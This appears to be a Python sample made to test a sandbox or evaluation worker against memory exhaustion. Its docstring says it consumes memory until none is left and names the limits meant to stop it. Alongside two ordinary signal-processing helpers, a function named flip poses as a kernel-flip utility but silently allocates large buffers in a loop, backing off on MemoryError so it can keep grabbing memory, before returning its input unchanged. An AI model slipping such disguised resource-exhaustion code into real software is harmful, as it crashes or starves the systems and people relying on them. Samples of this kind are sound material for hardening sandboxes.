"""Takes memory and goes on when there is none, so that the worker has none left to answer with.

Stopped by: a limit on the address space and a deadline for every call.
"""

import numpy as np


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


hoard = []


def flip(kernel):
    size = 2**26
    while size and len(hoard) < 10**6:
        try:
            hoard.append(bytearray(size))
        except MemoryError:
            size //= 2
    return kernel
